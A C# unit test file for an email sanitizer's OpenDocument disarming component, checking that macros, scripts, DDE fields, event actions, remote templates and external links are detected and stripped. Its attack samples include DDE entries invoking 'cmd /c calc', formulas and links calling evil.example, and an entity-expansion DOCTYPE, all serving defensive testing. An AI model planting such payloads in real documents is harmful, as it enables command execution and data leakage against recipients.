using System.IO.Compression;
using System.Text;
using MailSanitizer.Content.Disarming.Odf;
using MailSanitizer.Content.Formats.Cfb;
using MailSanitizer.Content.Formats.Zip;

namespace MailSanitizer.Content.Tests.Disarming.Odf;

/// <summary>OpenDocument, as packages and flat: what acts goes, members without any of it are copied as they are.</summary>
public sealed class OdfHandlerTests : DisarmerContract
{
    private const string Spaces = """
        xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"
        xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"
        xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0" xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0"
        xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" xmlns:xforms="http://www.w3.org/2002/xforms"
        xmlns:ooo="http://openoffice.org/2004/office" xmlns:dom="http://www.w3.org/2001/xml-events" xmlns:anim="urn:oasis:names:tc:opendocument:xmlns:animation:1.0"
        """;

    private static readonly byte[] Compound = MakeCompound();

    private static string Content(string body, string type = "text") =>
        $"""<?xml version="1.0" encoding="UTF-8"?>{"\n"}<office:document-content {Spaces} office:version="1.3"><office:scripts/><office:body><office:{type}><text:p>before 日本 &amp; more</text:p>{body}<text:p>after</text:p></office:{type}></office:body></office:document-content>""";

    private static DisarmSample Package(string name, string body, params (string Name, byte[] Bytes)[] more)
    {
        string type = name.EndsWith(".ods", StringComparison.Ordinal) ? "spreadsheet" : name.EndsWith(".odp", StringComparison.Ordinal) ? "presentation" : name.EndsWith(".odg", StringComparison.Ordinal) ? "graphics" : "text";
        using MemoryStream to = new();
        ZipWriter writer = new(new StreamPartOutput(to));
        writer.Add("mimetype", new MemoryPartBytes(Encoding.ASCII.GetBytes("application/vnd.oasis.opendocument." + type)), store: true);
        writer.Add("content.xml", new MemoryPartBytes(Encoding.UTF8.GetBytes(Content(body, type))));
        writer.Add("styles.xml", new MemoryPartBytes(Encoding.UTF8.GetBytes($"<office:document-styles {Spaces}/>")));
        foreach ((string member, byte[] bytes) in more) writer.Add(member, new MemoryPartBytes(bytes));
        string entries = string.Concat(more.Select(member => $"""<manifest:file-entry manifest:full-path="{member.Name}" manifest:media-type=""/>"""));
        if (!more.Any(member => member.Name == "META-INF/manifest.xml"))
            writer.Add("META-INF/manifest.xml", new MemoryPartBytes(Encoding.UTF8.GetBytes($"""<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.{type}"/>{entries}</manifest:manifest>""")));
        writer.Finish();
        return new DisarmSample(name, to.ToArray());
    }

    private static DisarmSample Flat(string name, string body) => DisarmSample.Of(name,
        $"""<?xml version="1.0" encoding="UTF-8"?>{"\n"}<office:document {Spaces} office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.text"><office:body><office:text><text:p>before</text:p>{body}</office:text></office:body></office:document>""");

    public override IEnumerable<DisarmSample> Good
    {
        get
        {
            yield return Package("plain.odt", "");
            yield return Package("links.odt", """<text:p><text:a xlink:href="https://example.jp/">a</text:a><text:a xlink:href="#place">b</text:a><draw:frame><draw:image xlink:href="Pictures/a.png"/></draw:frame></text:p>""", ("Pictures/a.png", OnePixel()));
            yield return Package("sheet.ods", """<table:table table:name="A"><table:table-row><table:table-cell table:formula="of:=SUM([.A1:.A2])+['B C'.A1]"/></table:table-row></table:table>""");
            yield return Package("show.odp", """<draw:page><office:event-listeners><presentation:event-listener script:event-name="dom:click" presentation:action="next-page"/></office:event-listeners></draw:page>""");
            yield return Package("drawing.odg", """<draw:page><draw:a xlink:href="mailto:a@example.jp"><draw:rect/></draw:a></draw:page>""");
            yield return Package("menus.odt", "", ("Configurations2/accelerator/current.xml", []));
            yield return Flat("flat.fodt", """<text:p><text:a xlink:href="https://example.jp/">a</text:a></text:p>""");
        }
    }

    public override IEnumerable<DisarmSample> Attacks
    {
        get
        {
            yield return Package("basic.odt", "", ("Basic/Standard/Module1.xml", "<module>Sub Main</module>"u8.ToArray()), ("Basic/script-lc.xml", "<l/>"u8.ToArray()));
            foreach ((string name, string body, _, _) in Items().Select(row => row.Data)) yield return Package(name, body);
            yield return Flat("flat.fodt", """<office:scripts><office:script script:language="ooo:Basic">Sub</office:script></office:scripts>""");
        }
    }

    public override IEnumerable<DisarmSample> Hostile
    {
        get
        {
            yield return new DisarmSample("empty.odt", []);
            yield return DisarmSample.Of("text.odt", "no package");
            yield return Package("broken.odt", "<text:p>");
            yield return Package("entities.odt", "", ("settings.xml", "<!DOCTYPE a [<!ENTITY b \"bbbb\"><!ENTITY c \"&b;&b;\">]><a>&c;</a>"u8.ToArray()));
            yield return Package("deep.odt", string.Concat(Enumerable.Repeat("<text:p>", 20_000)));
            yield return Package("utf7.odt", "", ("settings.xml", "<?xml version=\"1.0\" encoding=\"UTF-7\"?><a/>"u8.ToArray()));
            yield return Flat("root.fodt", "</office:text></office:body></office:document><a");
        }
    }

    public override IEnumerable<(DisarmSample Sample, Limits Limits, FindingKind Kind)> OverLimits
    {
        get
        {
            yield return (Package("size.odt", ""), Limits.Default with { OdfXmlBytes = 600 }, OdfFindings.OverXml);
            yield return (Flat("size.fodt", ""), Limits.Default with { OdfXmlBytes = 600 }, OdfFindings.OverXml);
            yield return (Package("depth.odt", "<text:p><text:span><text:span>x</text:span></text:span></text:p>"), Limits.Default with { OdfXmlDepth = 4 }, OdfFindings.OverXml);
        }
    }

    /// <summary>File, body, an expression that finds the item in the XML, the finding.</summary>
    public static IEnumerable<TheoryDataRow<string, string, string, string>> Items()
    {
        yield return new("script.odt", """<office:scripts><office:script script:language="ooo:Basic"><a>Sub</a></office:script></office:scripts>""", "<office:script ", "vba-project");
        yield return new("inline.odt", """<text:p><text:script script:language="JavaScript">alert(1)</text:script></text:p>""", "<text:script", "vba-project");
        yield return new("macro-field.odt", """<text:p>x <text:execute-macro text:name="Evil">kept<office:event-listeners><script:event-listener script:event-name="dom:click" xlink:href="vnd.sun.star.script:a"/></office:event-listeners></text:execute-macro></text:p>""", "execute-macro", "vba-project");
        yield return new("event.odt", """<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:event-listeners>""", "script:event-listener", "odf-event-listener");
        yield return new("action.odp", """<draw:page><office:event-listeners><presentation:event-listener script:event-name="dom:click" presentation:action="execute" xlink:href="file:///c:/calc.exe"/></office:event-listeners></draw:page>""", "presentation:action=\"execute\"", "slide-action");
        yield return new("macro-action.odp", """<draw:page><presentation:event-listener script:event-name="dom:click" presentation:action="verb"/></draw:page>""", "presentation:action", "slide-action");
        yield return new("dde-field.odt", """<text:dde-connection-decls><text:dde-connection-decl office:name="a" office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x"/></text:dde-connection-decls><text:p><text:dde-connection text:connection-name="a">kept</text:dde-connection></text:p>""", "dde-connection", "dde");
        yield return new("dde-section.odt", """<text:section text:name="a"><office:dde-source office:dde-application="cmd" office:dde-topic="/c calc"/><text:p>kept</text:p></text:section>""", "dde-source", "dde");
        yield return new("dde-link.ods", """<table:dde-links><table:dde-link><office:dde-source office:dde-application="cmd"/></table:dde-link></table:dde-links>""", "dde-link", "dde");
        yield return new("dde-formula.ods", """<table:table><table:table-row><table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)"><text:p>kept</text:p></table:table-cell></table:table-row></table:table>""", "DDE\\(", "dde");
        yield return new("webservice.ods", """<table:table><table:table-row><table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;http://evil.example&quot;)"/></table:table-row></table:table>""", "WEBSERVICE", "active-function");
        yield return new("external-cell.ods", """<table:table><table:table-row><table:table-cell table:formula="of:=['file://evil.example/a.ods'#$Sheet1.A1]"/></table:table-row></table:table>""", "evil", "external-link");
        yield return new("link-formula.ods", """<table:table><table:table-row><table:table-cell table:formula="of:=HYPERLINK(&quot;file:///c:/calc.exe&quot;;&quot;x&quot;)"/></table:table-row></table:table>""", "calc.exe", "unsafe-hyperlink");
        yield return new("name.ods", """<table:named-expressions><table:named-expression table:name="n" table:expression="DDE(&quot;a&quot;)"/></table:named-expressions>""", "DDE\\(", "dde");
        yield return new("condition.ods", """<table:content-validations><table:content-validation table:name="n" table:condition="of:is-true-formula(WEBSERVICE(&quot;http://x&quot;))"/></table:content-validations>""", "WEBSERVICE", "active-function");
        yield return new("sheet-link.ods", """<table:table><table:table-source xlink:href="file://evil.example/a.ods"/></table:table>""", "table-source", "external-link");
        yield return new("area-link.ods", """<table:table><table:table-row><table:table-cell><table:cell-range-source table:name="a" xlink:href="http://evil.example/a.ods"/></table:table-cell></table:table-row></table:table>""", "cell-range-source", "external-link");
        yield return new("section.odt", """<text:section text:name="a"><text:section-source xlink:href="http://evil.example/a.odt"/><text:p>kept</text:p></text:section>""", "section-source", "external-link");
        yield return new("image.odt", """<text:p><draw:frame><draw:image xlink:href="http://evil.example/a.png"/></draw:frame></text:p>""", "evil", "external-link");
        yield return new("share.odt", """<text:p><draw:frame><draw:image xlink:href="//evil.example/a.png"/></draw:frame></text:p>""", "evil", "external-link");
        yield return new("outside.odt", """<text:p><draw:frame><draw:image xlink:href="../a.png"/></draw:frame></text:p>""", "\\.\\./a", "external-link");
        yield return new("object-link.odt", """<text:p><draw:frame><draw:object xlink:href="file://evil.example/a.odt"/></draw:frame></text:p>""", "evil", "linked-object");
        yield return new("ole.odt", """<text:p><draw:frame><draw:object-ole xlink:href="./Object 1"/><draw:image xlink:href="./ObjectReplacements/Object 1"/></draw:frame></text:p>""", "object-ole", "ole-object");
        yield return new("media.odp", """<draw:page><draw:frame><draw:plugin draw:mime-type="application/vnd.sun.star.media" xlink:href="http://evil.example/a.mp4"/></draw:frame></draw:page>""", "evil", "linked-media");
        yield return new("plugin.odt", """<text:p><draw:frame><draw:plugin draw:mime-type="application/x-shockwave-flash" xlink:href="a.swf"/></draw:frame></text:p>""", "draw:plugin", "odf-plugin");
        yield return new("applet.odt", """<text:p><draw:frame><draw:applet draw:code="a.class" xlink:href="./"/></draw:frame></text:p>""", "draw:applet", "odf-plugin");
        yield return new("frame.odt", """<text:p><draw:frame><draw:floating-frame xlink:href="http://evil.example/"/></draw:frame></text:p>""", "floating-frame", "external-link");
        yield return new("link.odt", """<text:p><text:a xlink:href="file:///c:/windows/calc.exe">kept</text:a></text:p>""", "calc.exe", "unsafe-hyperlink");
        yield return new("macro-link.odt", """<text:p><text:a xlink:href="vnd.sun.star.script:Standard.Module1.Main">kept</text:a></text:p>""", "vnd.sun.star.script", "unsafe-hyperlink");
        yield return new("form.odt", """<office:forms><form:form form:name="a" xlink:href="http://evil.example/"><form:button form:id="b"/></form:form></office:forms>""", "evil", "odf-form-submission");
        yield return new("xforms.odt", """<office:forms><xforms:model id="a"><xforms:submission action="http://evil.example"/></xforms:model></office:forms>""", "xforms:model", "odf-form-submission");
        yield return new("database.odt", """<office:forms><form:form form:datasource="Evil" form:command="select 1"/></office:forms>""", "form:command", "data-connection");
        yield return new("query.ods", """<table:database-ranges><table:database-range><table:database-source-sql table:database-name="a" table:sql-statement="x"/></table:database-range></table:database-ranges>""", "database-source-sql", "data-connection");
        yield return new("template.odt", """<meta:template xlink:href="http://evil.example/a.ott"/>""", "meta:template", "remote-template");
        yield return new("reload.odt", """<meta:auto-reload xlink:href="http://evil.example/"/>""", "auto-reload", "external-link");
        yield return new("font.odt", """<style:font-face><svg:font-face-src><svg:font-face-uri xlink:href="http://evil.example/a.ttf"/></svg:font-face-src></style:font-face>""", "evil", "external-link");
        yield return new("background.odt", """<style:background-image xlink:href="file://evil.example/a.png"/>""", "evil", "external-link");
        yield return new("base.odt", """<text:p xml:base="http://evil.example/">x</text:p>""", "xml:base", "external-link");
    }

    [Theory]
    [MemberData(nameof(Items))]
    public void Item_is_found_and_gone(string name, string body, string item, string kind)
    {
        DisarmSample package = Package(name, body), flat = Flat(Path.ChangeExtension(name, "fodt"), body);
        Assert.Matches(item, Xml(package.Bytes));
        Disarmed run = Disarmed.Run(package);
        Assert.Contains(kind, run.Before.Kinds);
        Assert.DoesNotMatch(item, Xml(run.Bytes));
        Assert.Empty(run.Left);
        if (body.Contains("kept", StringComparison.Ordinal)) Assert.Contains("kept", Xml(run.Bytes), StringComparison.Ordinal);

        Assert.Matches(item, Encoding.UTF8.GetString(flat.Bytes));
        Disarmed flatRun = Disarmed.Run(flat);
        Assert.Contains(kind, flatRun.Before.Kinds);
        Assert.DoesNotMatch(item, Encoding.UTF8.GetString(flatRun.Bytes));
        Assert.Empty(flatRun.Left);
    }

    [Fact]
    public void Libraries_menus_and_objects_go_with_their_entries_in_the_manifest()
    {
        DisarmSample sample = Package("all.odt", """<text:p><draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame></text:p>""",
            ("Basic/Standard/Module1.xml", "<m/>"u8.ToArray()), ("Scripts/python/evil.py", "import os"u8.ToArray()), ("Dialogs/a.xml", "<d/>"u8.ToArray()),
            ("Configurations2/menubar/menubar.xml", "<menu/>"u8.ToArray()), ("Object 1", Compound));
        string[] active = ["Basic/Standard/Module1.xml", "Scripts/python/evil.py", "Dialogs/a.xml", "Configurations2/menubar/menubar.xml", "Object 1"];
        Assert.All(active, name => Assert.Contains(name, Names(sample.Bytes)));
        Disarmed run = Disarmed.Run(sample);
        Assert.Equal(["mimetype", "content.xml", "styles.xml", "META-INF/manifest.xml"], Names(run.Bytes));
        Assert.All(active, name => Assert.DoesNotContain(name, Xml(run.Bytes), StringComparison.Ordinal));
        Assert.Contains("vba-project", run.Before.Kinds);
        Assert.Contains("custom-ui", run.Before.Kinds);
        Assert.Contains("ole-object", run.Before.Kinds);
        Assert.Contains(run.Before.Parts, part => part.Name == "Object 1");
    }

    [Fact]
    public void An_embedded_document_is_judged_like_the_one_around_it()
    {
        DisarmSample sample = Package("object.odt", """<text:p><draw:frame><draw:object xlink:href="./Object 1"/></draw:frame></text:p>""",
            ("Object 1/content.xml", Encoding.UTF8.GetBytes(Content("""<table:dde-links/><text:script>evil</text:script>"""))));
        Disarmed run = Disarmed.Run(sample);
        Assert.Contains(run.Before.Findings, finding => finding is { Kind: "vba-project", Location: "Object 1/content.xml" });
        Assert.DoesNotContain("evil", Xml(run.Bytes), StringComparison.Ordinal);
        Assert.Contains("Object 1/content.xml", Names(run.Bytes));
    }

    [Fact]
    public void Members_without_anything_active_are_copied_as_they_are()
    {
        DisarmSample sample = Package("copy.odt", """<text:p><text:script>evil</text:script></text:p>""", ("Pictures/a.png", OnePixel()));
        Disarmed run = Disarmed.Run(sample);
        ZipContents before = ZipReader.Read(new MemoryPartBytes(sample.Bytes), Limits.Default)!, after = ZipReader.Read(new MemoryPartBytes(run.Bytes), Limits.Default)!;
        foreach (string name in (string[])["mimetype", "styles.xml", "Pictures/a.png", "META-INF/manifest.xml"])
        {
            ZipEntry one = before.Find(name)!, two = after.Find(name)!;
            Assert.Equal(sample.Bytes[(int)one.DataOffset..(int)(one.DataOffset + one.PackedSize)], run.Bytes[(int)two.DataOffset..(int)(two.DataOffset + two.PackedSize)]);
        }

        Assert.Equal("mimetype", after.Entries[0].Name);
    }

    [Fact]
    public void An_encrypted_package_is_locked()
    {
        const string Manifest = """<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="styles.xml"><manifest:encryption-data/></manifest:file-entry></manifest:manifest>""";
        Disarmed run = Disarmed.Run(Package("locked.odt", "", ("META-INF/manifest.xml", Encoding.UTF8.GetBytes(Manifest))));
        Assert.Contains("locked", run.Before.Kinds);
    }

    [Fact]
    public void A_signature_is_told_and_lost_only_when_something_changes()
    {
        (string, byte[]) signature = ("META-INF/documentsignatures.xml", "<document-signatures/>"u8.ToArray());
        Disarmed good = Disarmed.Run(Package("signed.odt", "", signature)), bad = Disarmed.Run(Package("signed.odt", "<text:script>x</text:script>", signature));
        Assert.Contains("document-signature", good.Before.Kinds);
        Assert.True(good.IsUnchanged);
        Assert.Contains("document-signature", bad.Before.Kinds);
        Assert.DoesNotContain("META-INF/documentsignatures.xml", Names(bad.Bytes));
    }

    [Fact]
    public void Two_members_of_one_name_are_ambiguous()
    {
        Disarmed run = Disarmed.Run(Package("two.odt", "", ("content.xml", Encoding.UTF8.GetBytes(Content("<text:script>x</text:script>")))));
        Assert.Contains("odf-ambiguous", run.Before.Kinds);
    }

    [Fact]
    public void A_file_that_is_replaced_inside_is_replaced_in_the_package()
    {
        DisarmSample sample = Package("svg.odt", """<text:p><draw:frame><draw:image xlink:href="Pictures/a.svg"/></draw:frame></text:p>""",
            ("Pictures/a.svg", """<svg xmlns="http://www.w3.org/2000/svg"><script>evil()</script><rect/></svg>"""u8.ToArray()));
        Assert.Contains("evil", Xml(sample.Bytes, ".svg"), StringComparison.Ordinal);
        Disarmed run = Disarmed.Run(sample);
        Assert.DoesNotContain("evil", Xml(run.Bytes, ".svg"), StringComparison.Ordinal);
        Assert.Contains("Pictures/a.svg", Names(run.Bytes));
    }

    // Read by the platform, not by the product.
    private static string Xml(byte[] bytes, string extension = ".xml")
    {
        using ZipArchive archive = new(new MemoryStream(bytes));
        StringBuilder all = new();
        foreach (ZipArchiveEntry entry in archive.Entries.Where(entry => entry.FullName.EndsWith(extension, StringComparison.Ordinal)))
        {
            using StreamReader reader = new(entry.Open());
            all.Append(reader.ReadToEnd().Replace("<office:scripts />", "", StringComparison.Ordinal));
        }

        return all.ToString();
    }

    private static List<string> Names(byte[] bytes)
    {
        using ZipArchive archive = new(new MemoryStream(bytes));
        return [.. archive.Entries.Select(entry => entry.FullName)];
    }

    private static byte[] OnePixel() => Convert.FromBase64String("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==");

    private static byte[] MakeCompound()
    {
        CfbNode root = CfbNode.Storage("Root Entry");
        root.Children.Add(CfbNode.Stream("Contents", new MemoryPartBytes(new byte[100])));
        using MemoryStream to = new();
        _ = CfbWriter.Write(root, new StreamPartOutput(to));
        return to.ToArray();
    }
}
